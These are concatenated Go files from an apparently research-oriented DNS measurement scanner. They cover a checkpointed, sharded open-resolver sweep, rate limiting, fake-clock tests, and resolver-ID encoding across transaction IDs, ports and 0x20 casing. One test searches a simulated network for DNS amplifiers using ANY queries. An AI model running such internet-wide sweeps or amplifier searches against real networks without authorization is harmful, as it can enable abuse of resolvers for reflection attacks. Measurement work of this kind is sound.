	for i := 0; i < 50; i++ {
		if err := tr.Send(context.Background(), dst, 53, 40000, payload); err != nil {
			t.Fatal(err)
		}
	}
	fc.Advance(5 * time.Second)

	snap := stats.Snapshot()
	if snap.Elapsed != 5*time.Second {
		t.Errorf("Elapsed = %v, want exactly 5s (setup window must be excluded)", snap.Elapsed)
	}
	if got := snap.Rate(); got != 10 {
		t.Errorf("Rate() = %v pps, want exactly 10", got)
	}
}

// TestStatsLazyStartConcurrent races many senders over one wrapper: the
// base must be stamped exactly once (the earliest Send wins), which the
// race detector checks for free when this package runs under -race.
func TestStatsLazyStartConcurrent(t *testing.T) {
	fc := newFakeClock()
	start := fc.Now()
	tr, stats := WithStatsClock(&nullTransport{}, fc)
	tr.SetReceiver(func(netip.Addr, uint16, uint16, []byte) {})

	payload := make([]byte, 4)
	dst := netip.MustParseAddr("192.0.2.1")
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 100; i++ {
				_ = tr.Send(context.Background(), dst, 53, 40000, payload)
			}
		}()
	}
	wg.Wait()
	fc.Advance(time.Second)

	snap := stats.Snapshot()
	if snap.Sent != 800 {
		t.Errorf("Sent = %d, want 800", snap.Sent)
	}
	// All sends happened at the same fake instant, so whichever
	// goroutine stamped the base, Elapsed is exactly the later advance.
	if snap.Elapsed != fc.Now().Sub(start) {
		t.Errorf("Elapsed = %v, want %v", snap.Elapsed, fc.Now().Sub(start))
	}
}
