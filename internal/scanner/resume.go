package scanner

import (
	"context"
	"fmt"
	"sort"
	"sync"

	"goingwild/internal/dnswire"
	"goingwild/internal/domains"
	"goingwild/internal/lfsr"
	"goingwild/internal/wildnet"
)

// Resumable sweeps. SweepResumeContext runs the same census (and the
// same chaos-profile retry rounds) as SweepContext, but periodically
// quiesces its sender workers at a rendezvous barrier and hands a
// consistent SweepCheckpoint to the caller's Save hook. A process
// killed at any instant can restart from the last saved checkpoint and
// produce the identical SweepResult an uninterrupted run produces:
//
//   - Shard workers own disjoint slices of the target permutation, and
//     every probe payload is a pure function of (target, round), so
//     replaying a shard from its saved generator position re-sends
//     exactly the probes the dead run had not yet sent.
//   - The world model's packet fates are pure per-packet draws — the
//     only mutable transport state is the retransmission counter, which
//     the checkpoint carries — so a replayed send observes the same
//     fate it would have in the uninterrupted run.
//   - The collector snapshot is taken only while every sender is parked
//     at the barrier, so it can never contain a response to a probe
//     beyond some shard's saved generator position. That matters in
//     retry rounds: the miss filter consults the collector, and a
//     "future" entry would suppress a retransmission the uninterrupted
//     run made.

// ShardProgress is one shard worker's position inside the current
// sweep round.
type ShardProgress struct {
	// Gen marks how far the shard's target generator has advanced;
	// every target before this position has been fully sent.
	Gen lfsr.GeneratorState `json:"gen"`
	// Sent counts this shard's census probes (round 0 only; retry
	// traffic never counts toward Probed).
	Sent uint64 `json:"sent"`
}

// SweepCheckpoint is a consistent cut of an in-flight sweep.
type SweepCheckpoint struct {
	Order  uint   `json:"order"`
	Seed   uint32 `json:"seed"`
	Shards int    `json:"shards"`
	// Round is the round in progress: 0 is the census, 1..SweepRetries
	// are retransmission rounds. When Workers is nil the round has not
	// started (the checkpoint sits on a round boundary).
	Round   int             `json:"round"`
	Workers []ShardProgress `json:"workers,omitempty"`
	// Budgets is each shard's remaining retransmission allowance; nil
	// when the scan runs with an unlimited budget.
	Budgets []int `json:"budgets,omitempty"`
	// Probed is the census probe count so far (final once Round > 0).
	Probed uint64 `json:"probed"`
	// Responders is the sorted collector content at the cut.
	Responders []Responder `json:"responders,omitempty"`
	// Attempts carries the fault layer's retransmission counters for
	// payloads transmitted more than once at the current simulated
	// instant. Sweep payloads are unique per (target, round) — the
	// anti-caching prefix is round-salted — so this is empty today; it
	// is captured so any future same-payload retransmission within a
	// checkpoint window redraws its fate correctly after a resume.
	Attempts []wildnet.AttemptRecord `json:"attempts,omitempty"`
	// Done marks a finished sweep: the checkpoint holds the complete
	// result and a resume returns it without sending anything.
	Done bool `json:"done"`
}

// ResumeControl wires a resumable sweep to its checkpoint store.
type ResumeControl struct {
	// Prev is the checkpoint to resume from; nil starts fresh.
	Prev *SweepCheckpoint
	// Save persists one checkpoint. It runs with every sender worker
	// quiesced and must not retain the pointer after returning. An
	// error (e.g. checkpoint.ErrStopped from a signal-triggered stop
	// after a successful save) unwinds the sweep.
	Save func(*SweepCheckpoint) error
	// EveryBatches is how many send batches each worker dispatches
	// between rendezvous points (default 16; one batch is up to
	// streamBatch probes).
	EveryBatches int
}

// attemptsCarrier is implemented by transports whose fault layer keeps
// retransmission counters (wildnet.MemTransport).
type attemptsCarrier interface {
	AttemptsState() []wildnet.AttemptRecord
	RestoreAttempts([]wildnet.AttemptRecord)
}

// rendezvous is the quiesce barrier checkpoint snapshots require. Every
// worker calls pause after each batch; when a snapshot is due, workers
// park until the last arrival runs snap() — at that instant every
// registered worker has published its position and nothing is in
// flight. Errors from snap (including the deliberate stop signal) are
// sticky and unwind every worker.
type rendezvous struct {
	mu     sync.Mutex
	cond   *sync.Cond
	active int
	parked int
	gen    uint64
	due    bool
	snap   func() error
	err    error
}

func newRendezvous(workers int, snap func() error) *rendezvous {
	r := &rendezvous{active: workers, snap: snap}
	r.cond = sync.NewCond(&r.mu)
	return r
}

// fire runs the pending snapshot and releases parked workers. Caller
// holds mu; every active worker is parked (or this is the last one).
func (r *rendezvous) fire() {
	if r.err == nil {
		if err := r.snap(); err != nil {
			r.err = err
		}
	}
	r.due = false
	r.parked = 0
	r.gen++
	r.cond.Broadcast()
}

// pause publishes the worker's position via update and, when a snapshot
// is due (or this worker requests one), parks until it is taken.
func (r *rendezvous) pause(update func(), request bool) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	update()
	if request {
		r.due = true
	}
	if r.err != nil {
		return r.err
	}
	if !r.due {
		return nil
	}
	r.parked++
	if r.parked == r.active {
		r.fire()
	} else {
		for g := r.gen; r.gen == g; {
			r.cond.Wait()
		}
	}
	return r.err
}

// finish publishes the worker's final position and deregisters it. If
// the remaining workers are all parked on a due snapshot, the departing
// worker takes it for them.
func (r *rendezvous) finish(update func()) {
	r.mu.Lock()
	update()
	r.active--
	if r.due && r.parked == r.active {
		r.fire()
	}
	r.mu.Unlock()
}

// SweepResumeContext is SweepContext with crash-safe checkpoints. With
// rc nil it is exactly SweepContext; otherwise it periodically saves a
// consistent SweepCheckpoint through rc.Save and, when rc.Prev is set,
// resumes from it instead of starting over. The final SweepResult is
// identical to an uninterrupted SweepContext run with the same options
// (shard workers emit the same probe set as the sharded and unsharded
// sweeps — see sweepSharded's equivalence argument).
func (s *Scanner) SweepResumeContext(ctx context.Context, order uint, seed uint32, bl *lfsr.Blacklist, rc *ResumeControl) (*SweepResult, error) {
	if rc == nil || rc.Save == nil {
		return s.SweepContext(ctx, order, seed, bl)
	}
	if s.tr == nil {
		return nil, ErrNoTransport
	}
	m := s.opts.Shards
	prev := rc.Prev
	if prev != nil {
		if prev.Order != order || prev.Seed != seed || prev.Shards != m {
			return nil, fmt.Errorf("scanner: checkpoint is a %d-shard order-%d seed-%d sweep; this run is %d-shard order-%d seed-%d",
				prev.Shards, prev.Order, prev.Seed, m, order, seed)
		}
		if !prev.Done && prev.Round > s.opts.SweepRetries {
			return nil, fmt.Errorf("scanner: checkpoint round %d exceeds this run's %d retry rounds", prev.Round, s.opts.SweepRetries)
		}
	}
	hint := int(uint64(1) << order / 64)
	st := newSweepCollector(domains.ScanBase, hint)
	st.recv = s.m.sweepRecv
	s.tr.SetReceiver(st.receive)
	baseWire, err := dnswire.EncodeNameWire(st.base)
	if err != nil {
		return nil, err
	}
	if bl != nil {
		bl.Freeze()
	}

	budgeted := s.opts.RetryBudget > 0
	var budgets []int
	if budgeted {
		budgets = make([]int, m)
		for i := range budgets {
			budgets[i] = shardBudget(s.opts.RetryBudget, i, m)
		}
	}
	var census uint64
	startRound := 0
	if prev != nil {
		for _, r := range prev.Responders {
			st.responses.InsertOnce(r.Addr, r)
		}
		if tc, ok := s.tr.(attemptsCarrier); ok {
			tc.RestoreAttempts(prev.Attempts)
		}
		if prev.Done {
			return s.collectSweep(st, prev.Probed), nil
		}
		census = prev.Probed
		startRound = prev.Round
		if budgeted && len(prev.Budgets) == m {
			copy(budgets, prev.Budgets)
		}
	}

	every := rc.EveryBatches
	if every <= 0 {
		every = 16
	}
	bs, batched := s.tr.(wildnet.BatchSender)
	limited := s.rate.interval != 0
	cancellable := ctx.Done() != nil
	guard := s.newDeadlineGuard()
	miss := func(u uint32) bool {
		_, answered := st.responses.Get(u)
		return !answered
	}
	// snapshot state shared between the round workers and the snap
	// closure; every access happens under the rendezvous mutex.
	slots := make([]ShardProgress, m)

	snapRound := 0
	snap := func() error {
		ck := &SweepCheckpoint{
			Order:   order,
			Seed:    seed,
			Shards:  m,
			Round:   snapRound,
			Workers: append([]ShardProgress(nil), slots...),
			Probed:  census,
		}
		if snapRound == 0 {
			ck.Probed = 0
			for _, sl := range slots {
				ck.Probed += sl.Sent
			}
		}
		if budgeted {
			ck.Budgets = append([]int(nil), budgets...)
		}
		ck.Responders = s.snapshotResponders(st)
		ck.Attempts = s.snapshotAttempts()
		return rc.Save(ck)
	}

	partial := func() uint64 {
		if census > 0 {
			return census
		}
		var n uint64
		for _, sl := range slots {
			n += sl.Sent
		}
		return n
	}

	for round := startRound; round <= s.opts.SweepRetries; round++ {
		if err := ctx.Err(); err != nil {
			return s.collectSweep(st, partial()), err
		}
		if round > 0 {
			if guard.expired() {
				break
			}
			if err := s.backoffWait(ctx, round); err != nil {
				return s.collectSweep(st, partial()), err
			}
		}
		resumed := prev != nil && prev.Round == round && len(prev.Workers) == m
		build := templateBuild(baseWire, round)
		snapRound = round
		for i := range slots {
			slots[i] = ShardProgress{}
		}
		gens := make([]*lfsr.TargetGenerator, m)
		sents := make([]uint64, m)
		for i := 0; i < m; i++ {
			if resumed {
				gens[i], err = lfsr.Resume(prev.Workers[i].Gen, bl)
				sents[i] = prev.Workers[i].Sent
			} else {
				gens[i], err = lfsr.ShardedGenerator(order, seed, bl, i, m)
			}
			if err != nil {
				return s.collectSweep(st, partial()), err
			}
			slots[i] = ShardProgress{Gen: gens[i].State(), Sent: sents[i]}
		}
		rz := newRendezvous(m, snap)
		errs := make([]error, m)
		var wg sync.WaitGroup
		for i := 0; i < m; i++ {
			wg.Add(1)
			go func(i int, gen *lfsr.TargetGenerator, sent uint64) {
				defer wg.Done()
				budget := 0
				if budgeted {
					budget = budgets[i]
				}
				update := func() {
					slots[i] = ShardProgress{Gen: gen.State(), Sent: sent}
					if budgeted {
						budgets[i] = budget
					}
				}
				defer rz.finish(update)
				if round > 0 {
					s.m.retryRounds.Inc()
				}
				bat := probeBatchPool.Get().(*probeBatch)
				defer probeBatchPool.Put(bat)
				var targets [streamBatch]uint32
				batches := 0
				exhausted := false
				for !exhausted {
					if cancellable && ctx.Err() != nil {
						errs[i] = ctx.Err()
						return
					}
					n := gen.NextBatch(targets[:])
					if n == 0 {
						return
					}
					bat.reset()
					for _, u := range targets[:n] {
						if round > 0 {
							if !miss(u) {
								continue
							}
							if budgeted {
								if budget <= 0 {
									exhausted = true
									break
								}
								budget--
							}
						}
						if limited {
							s.rate.wait(ctx)
						}
						bat.add(u, build)
					}
					if bat.n > 0 {
						probes := bat.finish(s.opts.BasePort)
						sent += uint64(len(probes))
						s.m.sweepSent.Add(uint64(len(probes)))
						if round > 0 {
							s.m.retrySpend.Add(uint64(len(probes)))
						}
						s.m.batchSize.Observe(int64(len(probes)))
						if batched {
							// Send failures are modeled packet loss.
							bs.SendBatch(ctx, probes)
						} else {
							for k := range probes {
								p := &probes[k]
								//lint:allow errdrop sweep send failures are modeled packet loss
								s.tr.Send(ctx, p.Dst, 53, p.SrcPort, p.Payload)
							}
						}
					}
					batches++
					if err := rz.pause(update, batches%every == 0); err != nil {
						errs[i] = err
						return
					}
				}
			}(i, gens[i], sents[i])
		}
		wg.Wait()
		prev = nil
		if round == 0 {
			census = 0
			for _, sl := range slots {
				census += sl.Sent
			}
		}
		for _, e := range errs {
			if e != nil {
				return s.collectSweep(st, partial()), e
			}
		}
		if err := s.settle(ctx); err != nil {
			return s.collectSweep(st, census), err
		}
		// Round boundary: force a checkpoint so a crash during the next
		// round's backoff (or after the last round) resumes cleanly.
		bound := &SweepCheckpoint{
			Order: order, Seed: seed, Shards: m,
			Round:      round + 1,
			Probed:     census,
			Responders: s.snapshotResponders(st),
			Attempts:   s.snapshotAttempts(),
			Done:       round == s.opts.SweepRetries,
		}
		if budgeted {
			bound.Budgets = append([]int(nil), budgets...)
		}
		if err := rc.Save(bound); err != nil {
			return s.collectSweep(st, census), err
		}
		if bound.Done {
			break
		}
	}
	return s.collectSweep(st, census), ctx.Err()
}

// snapshotResponders freezes the collector into a sorted slice for a
// checkpoint. Callers guarantee no sender is in flight.
func (s *Scanner) snapshotResponders(st *sweepCollector) []Responder {
	out := make([]Responder, 0, st.responses.Len())
	st.responses.Collect(func(_ uint32, r Responder) { out = append(out, r) })
	sort.Slice(out, func(i, j int) bool { return out[i].Addr < out[j].Addr })
	return out
}

// snapshotAttempts captures the transport's retransmission counters,
// keeping only entries a resume could ever consult: payloads already
// transmitted at least twice at this simulated instant, whose next
// retransmission must observe the right attempt number. Single-shot
// payloads (every sweep probe — targets are probed once per round, and
// rounds salt the payload) are reproduced by the replay itself.
func (s *Scanner) snapshotAttempts() []wildnet.AttemptRecord {
	tc, ok := s.tr.(attemptsCarrier)
	if !ok {
		return nil
	}
	recs := tc.AttemptsState()
	out := recs[:0]
	for _, r := range recs {
		if r.N >= 2 {
			out = append(out, r)
		}
	}
	if len(out) == 0 {
		return nil
	}
	return out
}
