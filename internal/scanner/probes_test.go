package scanner

import (
	"context"
	"testing"
	"time"

	"goingwild/internal/dnswire"
	"goingwild/internal/wildnet"
)

func TestProbeAliveTracksCohort(t *testing.T) {
	w, tr := testWorld(t, 16)
	defer tr.Close()
	s := testScanner(tr)
	sweep, err := s.Sweep(16, 5, w.ScanBlacklist())
	if err != nil {
		t.Fatal(err)
	}
	var cohort []uint32
	for _, r := range sweep.Responders {
		cohort = append(cohort, r.Addr)
	}
	alive := s.ProbeAlive(cohort)
	if len(alive) < len(cohort)*95/100 {
		t.Errorf("same-time reprobe found only %d/%d", len(alive), len(cohort))
	}
	// A week later, many are gone.
	tr.SetTime(wildnet.At(1))
	aliveLater := s.ProbeAlive(cohort)
	if len(aliveLater) >= len(alive) {
		t.Errorf("no churn observed: %d then %d", len(alive), len(aliveLater))
	}
}

func TestLookupPTRAndA(t *testing.T) {
	w, tr := testWorld(t, 16)
	defer tr.Close()
	s := testScanner(tr)
	trusted := w.RoleAddr(wildnet.RoleTrustedDNS, 0)
	// Find an address with an rDNS record whose A round trip holds.
	var target uint32
	var name string
	for u := uint32(64); u < 1<<16; u += 31 {
		if n := w.RDNS(u); n != "" {
			if back, rc := w.LegitAddrs(n, "DE"); rc == dnswire.RCodeNoError && len(back) == 1 && back[0] == u {
				target, name = u, n
				break
			}
		}
	}
	if name == "" {
		t.Skip("no round-trippable rDNS name found")
	}
	got, ok := s.LookupPTR(trusted, target)
	if !ok || got != name {
		t.Fatalf("LookupPTR = %q/%v, want %q", got, ok, name)
	}
	addrs, rc, ok := s.LookupA(trusted, name)
	if !ok || rc != dnswire.RCodeNoError || len(addrs) != 1 || addrs[0] != target {
		t.Errorf("LookupA(%q) = %v rc=%v ok=%v", name, addrs, rc, ok)
	}
}

func TestLookupAForNXDomain(t *testing.T) {
	w, tr := testWorld(t, 16)
	defer tr.Close()
	s := testScanner(tr)
	trusted := w.RoleAddr(wildnet.RoleTrustedDNS, 0)
	addrs, rc, ok := s.LookupA(trusted, "ghoogle.com")
	if !ok {
		t.Fatal("trusted resolver silent")
	}
	if rc != dnswire.RCodeNXDomain || len(addrs) != 0 {
		t.Errorf("NX lookup = %v rc=%v", addrs, rc)
	}
}

func TestRateLimiterPacing(t *testing.T) {
	rl := newRateLimiter(1000, nil) // 1k pps → 1ms interval
	start := time.Now()
	for i := 0; i < 50; i++ {
		rl.wait(context.Background())
	}
	elapsed := time.Since(start)
	// 50 tokens at 1k pps should take ≈50ms, modulo the 2ms burst
	// allowance; anything under 20ms means pacing is broken.
	if elapsed < 20*time.Millisecond {
		t.Errorf("50 tokens at 1k pps took %v", elapsed)
	}
	unlimited := newRateLimiter(0, nil)
	start = time.Now()
	for i := 0; i < 10000; i++ {
		unlimited.wait(context.Background())
	}
	if time.Since(start) > 100*time.Millisecond {
		t.Error("unlimited rate limiter slept")
	}
}

func TestSnoopRoundAttribution(t *testing.T) {
	w, tr := testWorld(t, 16)
	defer tr.Close()
	s := testScanner(tr)
	sweep, err := s.Sweep(16, 5, w.ScanBlacklist())
	if err != nil {
		t.Fatal(err)
	}
	resolvers := sweep.NOERROR()
	round := s.SnoopRound(resolvers, "com", 0)
	if len(round) < len(resolvers)/2 {
		t.Errorf("snoop round reached %d/%d resolvers", len(round), len(resolvers))
	}
	for u, obs := range round {
		if !obs.Answered {
			t.Errorf("unanswered observation recorded for %d", u)
		}
		if obs.Cached && obs.TTL > 48*3600 {
			t.Errorf("TTL %d out of range", obs.TTL)
		}
	}
}

func TestTruncationAndTCPFallback(t *testing.T) {
	w, tr := testWorld(t, 18)
	defer tr.Close()
	s := testScanner(tr)
	// Find a moderate amplifier whose ANY payload exceeds 512 octets
	// (no EDNS): its UDP answer must truncate and TCP must recover it.
	var target uint32
	found := false
	for u := uint32(0); u < 1<<18 && !found; u++ {
		if c, ok := w.AmpClassAt(u, wildnet.At(0)); !ok || c != wildnet.AmpModerate {
			continue
		}
		msgs, fellBack := s.ProbeTC(u, "chase.com", dnswire.TypeANY, dnswire.ClassIN)
		if !fellBack {
			continue
		}
		found = true
		target = u
		full := msgs[len(msgs)-1]
		if full.Header.TC {
			t.Error("TCP response still truncated")
		}
		wire, err := full.PackBytes()
		if err != nil {
			t.Fatal(err)
		}
		if len(wire) <= dnswire.MaxUDPSize {
			t.Errorf("TCP answer only %d bytes — nothing was truncated", len(wire))
		}
	}
	if !found {
		t.Skip("no truncating moderate amplifier with TCP service at this order")
	}
	_ = target
}

func TestTCPFramingRoundTrip(t *testing.T) {
	q := dnswire.NewQuery(5, "chase.com", dnswire.TypeA, dnswire.ClassIN)
	frame, err := q.PackTCP()
	if err != nil {
		t.Fatal(err)
	}
	m, consumed, err := dnswire.UnpackTCP(frame)
	if err != nil || consumed != len(frame) {
		t.Fatalf("UnpackTCP: %v consumed=%d", err, consumed)
	}
	if m.Header.ID != 5 {
		t.Errorf("id = %d", m.Header.ID)
	}
	if _, _, err := dnswire.UnpackTCP(frame[:1]); err == nil {
		t.Error("short frame accepted")
	}
}

func TestStatsCounting(t *testing.T) {
	w, mem := testWorld(t, 16)
	defer mem.Close()
	tr, stats := WithStats(mem)
	s := New(tr, Options{Workers: 4, Retries: 0, SettleDelay: NoSettle})
	if _, err := s.Sweep(16, 5, w.ScanBlacklist()); err != nil {
		t.Fatal(err)
	}
	snap := stats.Snapshot()
	if snap.Sent == 0 || snap.Received == 0 {
		t.Fatalf("counters empty: %+v", snap)
	}
	if snap.Received > snap.Sent {
		t.Errorf("more responses than probes: %+v", snap)
	}
	if snap.BytesOut == 0 || snap.BytesIn == 0 {
		t.Errorf("byte counters empty: %+v", snap)
	}
	if snap.ResponseRatio() <= 0 || snap.ResponseRatio() > 1 {
		t.Errorf("response ratio = %f", snap.ResponseRatio())
	}
	if snap.String() == "" {
		t.Error("empty snapshot string")
	}
}
