//go:build !race

package scanner

const raceEnabled = false
