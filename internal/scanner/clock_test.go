package scanner

import (
	"context"
	"net/netip"
	"sync"
	"testing"
	"time"
)

// fakeClock is a manually-advanced Clock; Sleep jumps time forward
// instead of blocking, so pacing logic runs instantly and exactly.
type fakeClock struct {
	mu  sync.Mutex
	now time.Time
}

func newFakeClock() *fakeClock {
	return &fakeClock{now: time.Unix(1_000_000, 0)}
}

func (c *fakeClock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

func (c *fakeClock) Sleep(d time.Duration) {
	c.mu.Lock()
	c.now = c.now.Add(d)
	c.mu.Unlock()
}

func (c *fakeClock) Advance(d time.Duration) { c.Sleep(d) }

// nullTransport swallows sends and hands the receiver back to the test.
type nullTransport struct {
	recv func(src netip.Addr, srcPort, dstPort uint16, payload []byte)
}

func (n *nullTransport) Send(ctx context.Context, dst netip.Addr, dstPort, srcPort uint16, payload []byte) error {
	return nil
}

func (n *nullTransport) SetReceiver(f func(src netip.Addr, srcPort, dstPort uint16, payload []byte)) {
	n.recv = f
}

func (n *nullTransport) Close() error { return nil }

func TestStatsWithFakeClock(t *testing.T) {
	fc := newFakeClock()
	inner := &nullTransport{}
	tr, stats := WithStatsClock(inner, fc)
	tr.SetReceiver(func(netip.Addr, uint16, uint16, []byte) {})

	payload := make([]byte, 10)
	for i := 0; i < 20; i++ {
		if err := tr.Send(context.Background(), netip.MustParseAddr("192.0.2.1"), 53, 40000, payload); err != nil {
			t.Fatal(err)
		}
	}
	for i := 0; i < 5; i++ {
		inner.recv(netip.MustParseAddr("192.0.2.1"), 53, 40000, payload[:4])
	}
	fc.Advance(2 * time.Second)

	snap := stats.Snapshot()
	if snap.Sent != 20 || snap.Received != 5 {
		t.Errorf("sent=%d recv=%d, want 20/5", snap.Sent, snap.Received)
	}
	if snap.BytesOut != 200 || snap.BytesIn != 20 {
		t.Errorf("bytesOut=%d bytesIn=%d, want 200/20", snap.BytesOut, snap.BytesIn)
	}
	if snap.Elapsed != 2*time.Second {
		t.Errorf("Elapsed = %v, want exactly 2s", snap.Elapsed)
	}
	if got := snap.Rate(); got != 10 {
		t.Errorf("Rate() = %v pps, want exactly 10", got)
	}
	if got := snap.ResponseRatio(); got != 0.25 {
		t.Errorf("ResponseRatio() = %v, want 0.25", got)
	}
}

func TestRateLimiterWithFakeClock(t *testing.T) {
	fc := newFakeClock()
	start := fc.Now()
	rl := newRateLimiter(1000, fc) // 1ms interval
	for i := 0; i < 50; i++ {
		rl.wait(context.Background())
	}
	// 50 tokens at 1k pps ≈ 50ms of virtual time; the 2ms burst
	// allowance trims a few ms off the tail.
	elapsed := fc.Now().Sub(start)
	if elapsed < 40*time.Millisecond || elapsed > 50*time.Millisecond {
		t.Errorf("50 tokens advanced the fake clock by %v, want ≈48ms", elapsed)
	}

	unlimited := newRateLimiter(0, fc)
	before := fc.Now()
	for i := 0; i < 1000; i++ {
		unlimited.wait(context.Background())
	}
	if fc.Now() != before {
		t.Error("unlimited rate limiter consumed virtual time")
	}
}

func TestSettleUsesInjectedClock(t *testing.T) {
	fc := newFakeClock()
	s := New(&nullTransport{}, Options{SettleDelay: 5 * time.Millisecond, Clock: fc})
	before := fc.Now()
	s.settle(context.Background())
	if got := fc.Now().Sub(before); got != 5*time.Millisecond {
		t.Errorf("settle advanced fake clock by %v, want 5ms", got)
	}
}
