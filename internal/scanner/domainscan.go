package scanner

import (
	"sync"

	"goingwild/internal/dnswire"
	"goingwild/internal/lfsr"
)

// TupleAnswer is the outcome of one (domain, resolver) probe — the raw
// material of the (domain ∘ ip ∘ resolver) tuples of §3.
type TupleAnswer struct {
	ResolverIdx int
	RCode       dnswire.RCode
	// Addrs is the A answer set (nil for empty answer sections).
	Addrs []uint32
	// NSOnly marks responses carrying only authority NS records.
	NSOnly bool
	// Responses counts how many responses arrived for the probe;
	// values above 1 betray injected answers racing the legitimate one
	// (the Great Firewall signature, §4.2).
	Responses int
	// SecondAddrs is the answer set of a second, later response.
	SecondAddrs []uint32
	// PortRewritten marks responses that arrived on an unexpected
	// destination port and were recovered via the 0x20 bits.
	PortRewritten bool
}

// Answered reports whether any response arrived.
func (t *TupleAnswer) Answered() bool { return t.Responses > 0 }

// DomainScanResult holds one domain-set scan: a row per scanned name, a
// column per resolver.
type DomainScanResult struct {
	Resolvers []uint32
	Names     []string
	// Answers[nameIdx][resolverIdx]
	Answers [][]TupleAnswer
}

// ScanDomains queries every resolver for every name. Each probe carries
// the resolver's index as a 25-bit identifier: 16 bits in the DNS
// transaction ID, 9 bits selecting the UDP source port, and the same 9
// bits redundantly 0x20-encoded into the query name's letter casing —
// exactly the encoding of §3.3, which survives resolvers that rewrite the
// response's destination port.
func (s *Scanner) ScanDomains(resolvers []uint32, names []string) (*DomainScanResult, error) {
	if s.tr == nil {
		return nil, ErrNoTransport
	}
	if len(resolvers) > dnswire.MaxProbeID {
		return nil, errTooManyResolvers(len(resolvers))
	}
	res := &DomainScanResult{
		Resolvers: resolvers,
		Names:     names,
		Answers:   make([][]TupleAnswer, len(names)),
	}
	for ni := range names {
		res.Answers[ni] = make([]TupleAnswer, len(resolvers))
		for ri := range res.Answers[ni] {
			res.Answers[ni][ri].ResolverIdx = ri
		}
	}

	for ni, name := range names {
		row := res.Answers[ni]
		var mu sync.Mutex
		s.tr.SetReceiver(func(src netip4, srcPort, dstPort uint16, payload []byte) {
			m, err := dnswire.Unpack(payload)
			if err != nil || !m.Header.QR || len(m.Questions) == 0 {
				return
			}
			// Recover the resolver identifier. The transaction ID
			// carries the low 16 bits; the destination port names the
			// high 9 — unless the resolver rewrote the port, in which
			// case the 0x20 casing of the echoed question supplies
			// them.
			txid := m.Header.ID
			portRewritten := false
			var hi uint16
			if dstPort >= s.opts.BasePort && dstPort < s.opts.BasePort+dnswire.ProbePortCount {
				hi = dstPort - s.opts.BasePort
			} else {
				bits, nbits := dnswire.Decode0x20(m.Questions[0].Name, 9)
				if nbits < 9 {
					// Too few letters to recover; drop like the
					// paper drops unattributable responses.
					return
				}
				hi = uint16(bits)
				portRewritten = true
			}
			id := dnswire.JoinProbeID(txid, hi)
			if int(id) >= len(resolvers) {
				return
			}
			ans := &row[id]
			addrs := m.AnswerAddrs()
			u32s := make([]uint32, len(addrs))
			for i, a := range addrs {
				u32s[i] = lfsr.AddrToU32(a)
			}
			mu.Lock()
			defer mu.Unlock()
			ans.Responses++
			if ans.Responses == 1 {
				ans.RCode = m.Header.RCode
				ans.Addrs = u32s
				ans.NSOnly = len(addrs) == 0 && hasNSAuthority(m)
				ans.PortRewritten = portRewritten
			} else if ans.SecondAddrs == nil {
				ans.SecondAddrs = u32s
			}
		})

		pending := make([]int, len(resolvers))
		for i := range pending {
			pending[i] = i
		}
		for round := 0; round <= s.opts.Retries && len(pending) > 0; round++ {
			batch := pending
			s.sendAll(len(batch), func(k int) {
				ri := batch[k]
				id := dnswire.ProbeID(ri)
				txid, portIdx := dnswire.SplitProbeID(id)
				qname, _ := dnswire.Encode0x20(name, uint32(portIdx), 9)
				wire := packQuery(txid, qname, dnswire.TypeA, dnswire.ClassIN)
				s.tr.Send(lfsr.U32ToAddr(resolvers[ri]), 53, s.opts.BasePort+portIdx, wire)
			})
			s.settle()
			if round == s.opts.Retries {
				break
			}
			var miss []int
			mu.Lock()
			for _, ri := range batch {
				if row[ri].Responses == 0 {
					miss = append(miss, ri)
				}
			}
			mu.Unlock()
			pending = miss
		}
	}
	return res, nil
}

func hasNSAuthority(m *dnswire.Message) bool {
	for _, rr := range m.Authority {
		if rr.Type() == dnswire.TypeNS {
			return true
		}
	}
	return false
}

type errTooManyResolvers int

func (e errTooManyResolvers) Error() string {
	return "scanner: resolver count exceeds the 25-bit probe identifier space"
}
