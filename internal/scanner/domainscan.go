package scanner

import (
	"context"

	"goingwild/internal/dnswire"
	"goingwild/internal/lfsr"
)

// TupleAnswer is the outcome of one (domain, resolver) probe — the raw
// material of the (domain ∘ ip ∘ resolver) tuples of §3.
type TupleAnswer struct {
	ResolverIdx int
	RCode       dnswire.RCode
	// Addrs is the A answer set (nil for empty answer sections).
	Addrs []uint32
	// NSOnly marks responses carrying only authority NS records.
	NSOnly bool
	// Responses counts how many responses arrived for the probe;
	// values above 1 betray injected answers racing the legitimate one
	// (the Great Firewall signature, §4.2).
	Responses int
	// SecondAddrs is the answer set of a second, later response.
	SecondAddrs []uint32
	// PortRewritten marks responses that arrived on an unexpected
	// destination port and were recovered via the 0x20 bits.
	PortRewritten bool
}

// Answered reports whether any response arrived.
func (t *TupleAnswer) Answered() bool { return t.Responses > 0 }

// DomainScanResult holds one domain-set scan: a row per scanned name, a
// column per resolver.
type DomainScanResult struct {
	Resolvers []uint32
	Names     []string
	// Answers[nameIdx][resolverIdx]
	Answers [][]TupleAnswer
}

// ScanDomains queries every resolver for every name; it is the ctx-less
// wrapper over ScanDomainsContext.
func (s *Scanner) ScanDomains(resolvers []uint32, names []string) (*DomainScanResult, error) {
	return s.ScanDomainsContext(bgCtx, resolvers, names)
}

// ScanDomainsContext queries every resolver for every name. Each probe
// carries the resolver's index as a 25-bit identifier: 16 bits in the DNS
// transaction ID, 9 bits selecting the UDP source port, and the same 9
// bits redundantly 0x20-encoded into the query name's letter casing —
// exactly the encoding of §3.3, which survives resolvers that rewrite the
// response's destination port.
//
// Cancellation checkpoints sit between name rounds and between retry
// rounds; a cancelled scan returns the partially filled result together
// with ctx.Err().
func (s *Scanner) ScanDomainsContext(ctx context.Context, resolvers []uint32, names []string) (*DomainScanResult, error) {
	if s.tr == nil {
		return nil, ErrNoTransport
	}
	if len(resolvers) > dnswire.MaxProbeID {
		return nil, errTooManyResolvers(len(resolvers))
	}
	res := &DomainScanResult{
		Resolvers: resolvers,
		Names:     names,
		Answers:   make([][]TupleAnswer, len(names)),
	}
	for ni := range names {
		res.Answers[ni] = make([]TupleAnswer, len(resolvers))
		for ri := range res.Answers[ni] {
			res.Answers[ni][ri].ResolverIdx = ri
		}
	}

	// One striped lock set serves every name round: answers are addressed
	// by resolver index, so receivers for different resolvers proceed in
	// parallel instead of convoying on a per-name mutex.
	var locks stripedMutex
	for ni, name := range names {
